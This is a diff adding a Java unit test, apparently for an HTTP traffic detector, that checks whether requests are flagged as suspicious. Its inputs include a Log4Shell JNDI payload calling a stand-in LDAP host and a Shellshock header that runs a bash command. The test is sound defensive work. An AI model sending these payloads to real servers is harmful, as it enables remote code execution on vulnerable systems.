@@ -131,6 +131,17 @@ class ServiceDialoguesTest {
     }
 
     @Test
+    void httpHeadersCarryingLog4ShellOrShellshockAreHot() {
+        h.session(80).open()
+                .client("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/Exploit}\r\n\r\n")
+                .client("GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n")
+                .client("GET /app.js HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
+                        + "Cookie: cb=function(){return 1}; t=${session}\r\n\r\n")
+                .server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").close();
+        assertThat(content()).isEqualTo("hot=2 logged_in=1");
+    }
+
+    @Test
     void httpRejectedCredentialsArePipelinedInOrder() {
         h.session(8001).open()
                 .client("GET /a HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n")
